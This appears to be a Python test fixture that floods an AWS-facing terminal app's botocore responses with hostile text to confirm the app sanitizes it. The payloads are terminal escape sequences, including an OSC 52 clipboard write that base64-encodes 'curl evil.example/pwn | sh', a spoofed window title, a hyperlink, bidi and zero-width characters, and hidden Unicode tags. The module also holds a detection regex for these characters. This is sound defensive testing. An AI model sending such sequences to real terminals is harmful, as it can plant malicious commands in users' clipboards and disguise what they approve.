"""Hostile remote text for the tests: the attacks the 2026-12-05 report used (and their relatives), a hypothesis
strategy mixing them with arbitrary text, and what must never reach a terminal from them."""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

from hypothesis import strategies as st

ATTACKS = [
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcHduIHwgc2g=\x1b\\",  # OSC 52: the clipboard
    "\x1b]0;APPROVAL-TITLE\x07",  # OSC 0: the window title
    "\x1b]8;;https://evil.example\x1b\\",  # OSC 8: a hyperlink
    "\x1b[2J\x1b[5;5H",  # clear the screen, move the cursor
    "\x1b[8m",  # concealed
    "\x1bP+q544e\x1b\\",  # DCS (XTGETTCAP)
    "\x9b2J",  # 8-bit CSI
    "\x9d0;8-bit title\x9c",  # 8-bit OSC
    "\x07\x00\x08\x0b\x0c\x7f\x85\x9c",  # BEL, NUL, BS, VT, FF, DEL, NEL, ST
    "\u202e\u2066\u2067\u2068\u2069\u202a\u202b\u202c\u202d\u200e\u200f\u061c",  # bidi overrides, isolates, marks
    "\u200b\u200c\u200d\u2060\ufeff\u00ad",  # zero-width characters, soft hyphen
    "\U000e0041\U000e0042",  # Unicode tags (hidden ASCII)
]
#: Cleans to nothing: a string every remote field can carry without changing what the product does with it.
INVISIBLE = "".join(ATTACKS)
MARKUP = "[bold red]x[/]"  # must be shown as these characters, never as bold red "x"

#: What no cleaned text and no rendered segment may hold: C0 (bar tab and LF), DEL, C1, format characters
#: (bidi, zero-width, tags) and lone surrogates.
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff"
    "\U000e0000-\U000e007f\ud800-\udfff]"
)

hostile_text = st.lists(
    st.one_of(
        st.sampled_from([*ATTACKS, MARKUP, "\r\n", "\r", "\u2028", "\n", "\t"]),
        st.text(max_size=12),
        st.binary(max_size=12).map(lambda b: b.decode("utf-8", "surrogateescape")),
    ),
    max_size=8,
).map("".join)


# --- the flood: every string of every AWS answer, as botocore hands it to the product ----------------------------

LITERAL = "[bold red]MARKUP-LITERAL[/]"  # in every free text: must be drawn as these characters
#: Strings the product compares with AWS's fixed vocabulary (AWS allows only a few values there, never "["): they
#: get the invisible part only, so the product still recognises a CodeBuild action.
VOCABULARY = {"provider", "owner", "version", "category", "pipelineType", "executionMode", "Account"}  # 12 digits
#: Opaque pagination tokens go back to AWS byte for byte: left alone.
TOKENS = {"nextToken", "nextForwardToken", "nextBackwardToken", "NextToken", "NextContinuationToken", "Marker"}


def poison(value: Any, shape: Any, name: str = "", *, key: bool = False) -> Any:
    """``value`` (a parsed botocore answer of ``shape``) with INVISIBLE around every string but enums and tokens,
    and LITERAL around every string but map keys and VOCABULARY."""
    if shape is None:
        return value
    kind = shape.type_name
    if kind == "structure" and isinstance(value, dict):
        return {k: poison(v, shape.members.get(k), k) for k, v in value.items()}
    if kind == "list" and isinstance(value, list):
        return [poison(v, shape.member, name) for v in value]
    if kind == "map" and isinstance(value, dict):
        return {poison(k, shape.key, name, key=True): poison(v, shape.value, name) for k, v in value.items()}
    if kind == "string" and isinstance(value, str) and not getattr(shape, "enum", None) and name not in TOKENS:
        literal = "" if key or name in VOCABULARY else LITERAL
        return f"{INVISIBLE}{literal}{value}{literal}{INVISIBLE}"  # ahead too: a truncated column shows it
    return value


def unpoison(value: Any) -> Any:
    """What the product sends back to AWS, without the flood (names and ids as AWS knows them)."""
    if isinstance(value, str):
        return value.replace(INVISIBLE, "").replace(LITERAL, "")
    if isinstance(value, dict):
        return {unpoison(k): unpoison(v) for k, v in value.items()}
    if isinstance(value, list):
        return [unpoison(v) for v in value]
    return value


@contextmanager
def flooded_aws() -> Iterator[list[str]]:
    """While active, every botocore client's answers (and error messages) are poisoned, and its requests cleaned
    of the poison. Yields the operations poisoned, so a test can show the flood reached them."""
    from botocore.client import BaseClient
    from botocore.exceptions import ClientError

    original = BaseClient._make_api_call
    seen: list[str] = []

    def call(self: Any, operation: str, params: dict[str, Any]) -> Any:
        try:
            result = original(self, operation, unpoison(params))
        except ClientError as exc:
            error = exc.response.get("Error", {})
            if "Message" in error:
                error["Message"] = f"{INVISIBLE}{error['Message']}{LITERAL}{INVISIBLE}"
            raise
        seen.append(operation)
        return poison(result, self.meta.service_model.operation_model(operation).output_shape)

    BaseClient._make_api_call = call  # type: ignore[method-assign]
    try:
        yield seen
    finally:
        BaseClient._make_api_call = original  # type: ignore[method-assign]


def rendered_rows(app: Any) -> list[list[Any]]:
    """Every segment the app's top screen draws now (what Textual would write to the terminal), row by row."""
    return [list(strip) for strip in app.screen._compositor.render_strips()]


def dirt(app: Any) -> list[str]:
    """What a rendered segment of the top screen holds that must never reach a terminal: a control, ESC or
    format character, or markup that was read as markup (LITERAL's words drawn without its brackets)."""
    found: list[str] = []
    word = LITERAL[len("[bold red]") : -len("[/]")]
    for row in rendered_rows(app):
        text = "".join(segment.text for segment in row)
        found += [f"{type(app.screen).__name__}: {text!r}"] if FORBIDDEN.search(text) else []
        start = text.find(word)
        while start >= 0:  # read as markup, the word has lost both its brackets (a dialog may hide one side)
            end = start + len(word)
            if text[max(0, start - 4) : start] != "red]" and text[end : end + 3] != "[/]":
                found.append(f"{type(app.screen).__name__}: markup read as markup in {text!r}")
            start = text.find(word, end)
    return found


def literal_count(app: Any) -> int:
    return sum("".join(s.text for s in row).count("MARKUP-LITERAL") for row in rendered_rows(app))
